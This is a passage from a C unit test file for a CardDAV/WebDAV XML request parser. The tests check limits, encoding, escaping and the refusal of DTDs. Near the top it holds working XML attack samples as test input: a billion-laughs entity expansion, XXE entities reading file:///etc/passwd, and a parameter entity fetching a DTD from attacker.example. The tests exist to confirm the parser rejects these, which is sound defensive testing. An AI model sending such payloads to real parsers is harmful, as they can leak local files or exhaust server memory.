                      " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
                      " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
                      " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
                      " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
                      " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
                      " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
                      " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
                      " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
                      " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
                      "]>\n<D:propfind xmlns:D=\"DAV:\"><D:prop><D:displayname>&lol9;"
                      "</D:displayname></D:prop></D:propfind>",
              KITH_EPARSE, "DTDs are not accepted");
    /* XXE: an external entity naming /etc/passwd, used in an href. */
    parse_err("REPORT",
              XMLDECL "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                      "<C:addressbook-multiget xmlns:D=\"DAV:\" "
                      "xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
                      "<D:href>&xxe;</D:href></C:addressbook-multiget>",
              KITH_EPARSE, "DTDs are not accepted");
    /* An external DTD, and a parameter entity pulling one in. */
    parse_err("PROPFIND",
              "<!DOCTYPE D:propfind SYSTEM \"file:///etc/passwd\">"
              "<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>",
              KITH_EPARSE, "DTDs are not accepted");
    parse_err("PROPFIND",
              "<!DOCTYPE p [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]>"
              "<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>",
              KITH_EPARSE, "DTDs are not accepted");
    /* A DOCTYPE with nothing in it is still refused. */
    parse_err("PROPFIND", "<!DOCTYPE x><D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>",
              KITH_EPARSE, "DTDs are not accepted");
    /* An entity reference without any DTD. */
    parse_err("REPORT",
              "<C:addressbook-multiget xmlns:D=\"DAV:\" "
              "xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><D:href>&xxe;</D:href>"
              "</C:addressbook-multiget>",
              KITH_EPARSE, "ntity");
    parse_err("PROPFIND", "<D:propfind xmlns:D=\"DAV:\" a=\"&x;\"><D:allprop/></D:propfind>",
              KITH_EPARSE, "ntity");

    ASSERT_EQ(entity_loads, 0);
    xmlSetExternalEntityLoader(old);
}

/* A propfind whose DAV:prop holds a chain of elements: depth counts the root as 1. */
static char *
nested(int depth)
{
    kith_buf_t b;
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<D:propfind xmlns:D=\"DAV:\"><D:prop>"));
    for (int i = 2; i < depth; i++) {
        ASSERT_OK(kith_buf_puts(&b, "<D:x>"));
    }
    for (int i = 2; i < depth; i++) {
        ASSERT_OK(kith_buf_puts(&b, "</D:x>"));
    }
    ASSERT_OK(kith_buf_puts(&b, "</D:prop></D:propfind>"));
    return kith_buf_steal(&b);
}

static void
depth_limit(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    char *ok = nested(KITH_DAVXML_MAX_DEPTH);
    parse_ok("PROPFIND", ok, &r);
    ASSERT_EQ(r.n_props, 1);
    kith_davxml_request_close(&r);
    free(ok);
    char *deep = nested(KITH_DAVXML_MAX_DEPTH + 1);
    parse_err("PROPFIND", deep, KITH_EPARSE, "deeper than 32");
    free(deep);
    /* Far deeper than libxml2's own limit: still our message. */
    char *deeper = nested(5000);
    parse_err("PROPFIND", deeper, KITH_EPARSE, "deeper than 32");
    free(deeper);
}

static char *
many_props(int n)
{
    kith_buf_t b;
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<D:propfind xmlns:D=\"DAV:\" xmlns:X=\"urn:x\"><D:prop>"));
    for (int i = 0; i < n; i++) {
        ASSERT_OK(kith_buf_printf(&b, "<X:p%d/>", i));
    }
    ASSERT_OK(kith_buf_puts(&b, "</D:prop></D:propfind>"));
    return kith_buf_steal(&b);
}

static void
prop_limit(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    char *ok = many_props(KITH_DAVXML_MAX_PROPS);
    parse_ok("PROPFIND", ok, &r);
    ASSERT_EQ(r.n_props, KITH_DAVXML_MAX_PROPS);
    check_prop(&r, 63, KITH_DAVP_OTHER, "urn:x", "p63");
    kith_davxml_request_close(&r);
    free(ok);
    char *big = many_props(KITH_DAVXML_MAX_PROPS + 1);
    parse_err("PROPFIND", big, KITH_ETOOBIG, "64");
    free(big);
    /* The limit counts every DAV:prop of a PROPPATCH together. */
    kith_buf_t b;
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<D:propertyupdate xmlns:D=\"DAV:\">"));
    for (int i = 0; i < 65; i++) {
        ASSERT_OK(kith_buf_puts(&b, "<D:remove><D:prop><D:displayname/></D:prop></D:remove>"));
    }
    ASSERT_OK(kith_buf_puts(&b, "</D:propertyupdate>"));
    parse_err("PROPPATCH", (const char *) b.data, KITH_ETOOBIG, "64");
    kith_buf_close(&b);
}

static char *
many_hrefs(int n)
{
    kith_buf_t b;
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<C:addressbook-multiget xmlns=\"DAV:\" "
                                "xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
                                "<prop><getetag/></prop>"));
    for (int i = 0; i < n; i++) {
        ASSERT_OK(kith_buf_printf(&b, "<href>/c/%d.vcf</href>", i));
    }
    ASSERT_OK(kith_buf_puts(&b, "</C:addressbook-multiget>"));
    return kith_buf_steal(&b);
}

static void
href_limit(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    char *ok = many_hrefs(KITH_DAVXML_MAX_HREFS);
    parse_ok("REPORT", ok, &r);
    ASSERT_EQ(r.n_hrefs, KITH_DAVXML_MAX_HREFS);
    ASSERT_STREQ(r.hrefs[0], "/c/0.vcf");
    ASSERT_STREQ(r.hrefs[KITH_DAVXML_MAX_HREFS - 1], "/c/19999.vcf");
    kith_davxml_request_close(&r);
    free(ok);
    char *big = many_hrefs(KITH_DAVXML_MAX_HREFS + 1);
    parse_err("REPORT", big, KITH_ETOOBIG, "20000");
    free(big);
}

static void
text_limit(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    kith_buf_t b;
    /* Exactly 8 KiB, with white space around it that trimming removes. */
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<C:addressbook-multiget xmlns:D=\"DAV:\" "
                                "xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><D:href>\n  /"));
    for (int i = 1; i < KITH_DAVXML_MAX_TEXT; i++) {
        ASSERT_OK(kith_buf_putc(&b, 'a'));
    }
    ASSERT_OK(kith_buf_puts(&b, "\n</D:href></C:addressbook-multiget>"));
    parse_ok("REPORT", (const char *) b.data, &r);
    ASSERT_EQ(strlen(r.hrefs[0]), KITH_DAVXML_MAX_TEXT);
    kith_davxml_request_close(&r);
    kith_buf_close(&b);

    /* 9 KiB href. */
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<C:addressbook-multiget xmlns:D=\"DAV:\" "
                                "xmlns:C=\"urn:ietf:params:xml:ns:carddav\"><D:href>/"));
    for (int i = 1; i < 9 * 1024; i++) {
        ASSERT_OK(kith_buf_putc(&b, 'a'));
    }
    ASSERT_OK(kith_buf_puts(&b, "</D:href></C:addressbook-multiget>"));
    parse_err("REPORT", (const char *) b.data, KITH_ETOOBIG, "href");
    kith_buf_close(&b);

    /* 9 KiB sync-token. */
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-token>"));
    for (int i = 0; i < 9 * 1024; i++) {
        ASSERT_OK(kith_buf_putc(&b, 't'));
    }
    ASSERT_OK(kith_buf_puts(&b, "</D:sync-token><D:sync-level>1</D:sync-level>"
                                "</D:sync-collection>"));
    parse_err("REPORT", (const char *) b.data, KITH_ETOOBIG, "sync-token");
    kith_buf_close(&b);
}

static void
body_limit(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    static const char head[] = "<D:propfind xmlns:D=\"DAV:\"><D:allprop/>";
    static const char tail[] = "</D:propfind>";
    size_t len = KITH_DAVXML_MAX_BODY;
    char *body = malloc(len + 1);
    assert_non_null(body);
    /* Exactly 1 MiB: a propfind padded with white space inside the root. */
    memcpy(body, head, sizeof(head) - 1);
    memset(body + sizeof(head) - 1, ' ', len - (sizeof(head) - 1) - (sizeof(tail) - 1));
    memcpy(body + len - (sizeof(tail) - 1), tail, sizeof(tail) - 1);
    ASSERT_OK(kith_davxml_parse("PROPFIND", body, len, &r, NULL, 0));
    ASSERT_EQ(r.allprop, 1);
    kith_davxml_request_close(&r);
    /* One byte more. */
    body[len] = '\n';
    parse_err_len("PROPFIND", body, len + 1, KITH_ETOOBIG, "1048576");
    /* Over the limit is refused before anything is read, white space or not. */
    memset(body, ' ', len + 1);
    parse_err_len("PROPFIND", body, len + 1, KITH_ETOOBIG, NULL);
    free(body);
}

static void
bad_encoding(void **state)
{
    (void) state;
    /* Invalid UTF-8 in text, in a name, and an overlong form. */
    parse_err("REPORT",
              "<C:addressbook-multiget xmlns:D=\"DAV:\" xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
              "<D:href>/a\xff\xfe.vcf</D:href></C:addressbook-multiget>",
              KITH_EPARSE, "Malformed XML");
    parse_err("PROPFIND", "<D:propfind xmlns:D=\"DAV:\"><D:prop><D:x\xc3/></D:prop></D:propfind>",
              KITH_EPARSE, "Malformed XML");
    parse_err("PROPFIND",
              "<D:propfind xmlns:D=\"DAV:\"><D:prop><D:x>\xc0\xaf</D:x></D:prop></D:propfind>",
              KITH_EPARSE, "Malformed XML");
    /* A NUL byte inside the document, after it (libxml2 alone would take it for the end
     * of input and accept), and a character reference to NUL. */
    static const char nul[] = "<D:propfind xmlns:D=\"DAV:\"><D:allprop/>\0</D:propfind>";
    parse_err_len("PROPFIND", nul, sizeof(nul) - 1, KITH_EPARSE, "NUL byte at offset 39");
    static const char nul_end[] = "<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>\0";
    parse_err_len("PROPFIND", nul_end, sizeof(nul_end) - 1, KITH_EPARSE, "NUL byte");
    parse_err("REPORT",
              "<C:addressbook-multiget xmlns:D=\"DAV:\" xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
              "<D:href>/a&#0;</D:href></C:addressbook-multiget>",
              KITH_EPARSE, "Malformed XML");
    /* A declared non-UTF-8 encoding is converted: hrefs come out as UTF-8. */
    kith_davxml_request_t r;
    parse_ok("REPORT",
             "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"
             "<C:addressbook-multiget xmlns:D=\"DAV:\" xmlns:C=\"urn:ietf:params:xml:ns:carddav\">"
             "<D:href>/caf\xe9.vcf</D:href></C:addressbook-multiget>",
             &r);
    ASSERT_STREQ(r.hrefs[0], "/caf\xc3\xa9.vcf");
    kith_davxml_request_close(&r);
}

static void
message_quotes_little(void **state)
{
    (void) state;
    char name[300];
    char body[400];
    char err[256];
    kith_davxml_request_t r;
    /* A 200-byte root name, with a two-byte character straddling the 40-byte cut. */
    memset(name, 'x', 200);
    memcpy(name + 39, "\xc3\xa9", 2);
    name[200] = '\0';
    snprintf(body, sizeof(body), "<%s/>", name);
    ASSERT_ERR(kith_davxml_parse("REPORT", body, strlen(body), &r, err, sizeof(err)), KITH_ENOTSUP);
    assert_non_null(strstr(err, "xxxxxxxxxx"));
    size_t run = 0;
    for (const char *p = err; *p != '\0'; p++) {
        run = (*p == 'x') ? run + 1 : run;
    }
    assert_true(run <= 40);
    /* The cut falls before the two-byte character, not inside it. */
    assert_null(strstr(err, "\xc3\""));
    /* libxml2's own messages (which quote names) are not passed on. */
    snprintf(body, sizeof(body), "<D:propfind xmlns:D=\"DAV:\"><%s></D:propfind>", name);
    ASSERT_ERR(kith_davxml_parse("PROPFIND", body, strlen(body), &r, err, sizeof(err)),
               KITH_EPARSE);
    assert_null(strstr(err, "xxxxx"));
    /* errbuf may be NULL. */
    ASSERT_ERR(kith_davxml_parse("PROPFIND", body, strlen(body), &r, NULL, 0), KITH_EPARSE);
}

static int generic_calls;

static void
counting_generic(void *ctx, const char *msg, ...)
{
    generic_calls++;
}

static void
errors_stay_silent(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    /* Whatever handler the caller had installed is neither called nor replaced. */
    xmlSetGenericErrorFunc(NULL, counting_generic);
    generic_calls = 0;
    static const char bad[] = "<D:propfind xmlns:D=\"DAV:\"><D:prop></D:propfind>";
    ASSERT_ERR(kith_davxml_parse("PROPFIND", bad, strlen(bad), &r, NULL, 0), KITH_EPARSE);
    ASSERT_EQ(generic_calls, 0);
    assert_true(xmlGenericError == counting_generic);
    xmlSetGenericErrorFunc(NULL, NULL);
}

static void
close_is_safe(void **state)
{
    (void) state;
    kith_davxml_request_t r;
    memset(&r, 0, sizeof(r));
    kith_davxml_request_close(&r);
    kith_davxml_request_close(&r);
    kith_davxml_request_close(NULL);
    parse_ok("REPORT",
             "<D:sync-collection xmlns:D=\"DAV:\"><D:sync-token>t</D:sync-token>"
             "<D:sync-level>1</D:sync-level><D:prop><D:getetag/></D:prop></D:sync-collection>",
             &r);
    kith_davxml_request_close(&r);
    ASSERT_EQ(r.n_props, 0);
    assert_null(r.sync_token);
    kith_davxml_request_close(&r);
}

/* ---- Escaping ---------------------------------------------------------------------- */

static void
escape_text(void **state)
{
    (void) state;
    kith_buf_t b;
    kith_buf_init(&b);
    ASSERT_OK(kith_davxml_escape(&b, "plain", 5));
    ASSERT_OK(kith_davxml_escape(&b, NULL, 0));
    ASSERT_OK(kith_davxml_escape(&b, "", 0));
    ASSERT_STREQ((const char *) b.data, "plain");
    b.len = 0;
    static const char all[] = "a&b<c>d\"e'f";
    ASSERT_OK(kith_davxml_escape(&b, all, strlen(all)));
    ASSERT_STREQ((const char *) b.data, "a&amp;b&lt;c&gt;d&quot;e&apos;f");
    b.len = 0;
    /* A vCard's CRLF keeps its CR through XML line-end normalisation; TAB and LF pass. */
    static const char card[] = "BEGIN:VCARD\r\nNOTE:a\tb\r\n";
    ASSERT_OK(kith_davxml_escape(&b, card, strlen(card)));
    ASSERT_STREQ((const char *) b.data, "BEGIN:VCARD&#13;\nNOTE:a\tb&#13;\n");
    b.len = 0;
    /* Multi-byte UTF-8, DEL and a C1 control (valid XML 1.0) pass unchanged. */
    static const char utf[] = "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80 \x7f \xc2\x85";
    ASSERT_OK(kith_davxml_escape(&b, utf, strlen(utf)));
    ASSERT_STREQ((const char *) b.data, utf);
    b.len = 0;
    /* Only len bytes are read. */
    ASSERT_OK(kith_davxml_escape(&b, "<<>>", 2));
    ASSERT_STREQ((const char *) b.data, "&lt;&lt;");
    kith_buf_close(&b);
}

static void
escape_refuses(void **state)
{
    (void) state;
    kith_buf_t b;
    kith_buf_init(&b);
    ASSERT_OK(kith_buf_puts(&b, "kept"));
    static const char *const bad[] = {
        "a\x01",
        "\x1f",
        "x\x0b",
        "a&b\x0c", /* C0 controls */
        "\xff",
        "a\xc3",
        "\xc0\xaf",
        "\xed\xa0\x80", /* bad UTF-8 */
        "\xf4\x90\x80\x80",
        "\xef\xbf\xbe",
        "\xef\xbf\xbf", /* > U+10FFFF, U+FFFE, U+FFFF */
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        ASSERT_ERR(kith_davxml_escape(&b, bad[i], strlen(bad[i])), KITH_EINVAL);
        /* A refused text leaves the buffer as it was. */
        ASSERT_EQ(b.len, 4);
        ASSERT_STREQ((const char *) b.data, "kept");
    }
    ASSERT_ERR(kith_davxml_escape(&b, "a\0b", 3), KITH_EINVAL);
    ASSERT_STREQ((const char *) b.data, "kept");
    kith_buf_close(&b);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rfc4918_propfind_prop),
        cmocka_unit_test(rfc4918_propname_allprop_include),
        cmocka_unit_test(empty_body),
        cmocka_unit_test(known_props_all),
        cmocka_unit_test(no_namespace_prop),
        cmocka_unit_test(propfind_structure),
        cmocka_unit_test(vdirsyncer),
        cmocka_unit_test(thunderbird),
        cmocka_unit_test(davx5),
        cmocka_unit_test(evolution),
        cmocka_unit_test(apple_contacts),
        cmocka_unit_test(rfc4918_proppatch),
        cmocka_unit_test(rfc6352_query),
        cmocka_unit_test(rfc6352_multiget),
        cmocka_unit_test(rfc6578_sync),
        cmocka_unit_test(wrong_root),
        cmocka_unit_test(not_xml),
        cmocka_unit_test(truncated),
        cmocka_unit_test(dtd_refused),
        cmocka_unit_test(depth_limit),
        cmocka_unit_test(prop_limit),
        cmocka_unit_test(href_limit),
        cmocka_unit_test(text_limit),
        cmocka_unit_test(body_limit),
        cmocka_unit_test(bad_encoding),
        cmocka_unit_test(message_quotes_little),
        cmocka_unit_test(errors_stay_silent),
        cmocka_unit_test(close_is_safe),
        cmocka_unit_test(escape_text),
        cmocka_unit_test(escape_refuses),
    };
    return cmocka_run_group_tests(tests, setup, NULL);
}
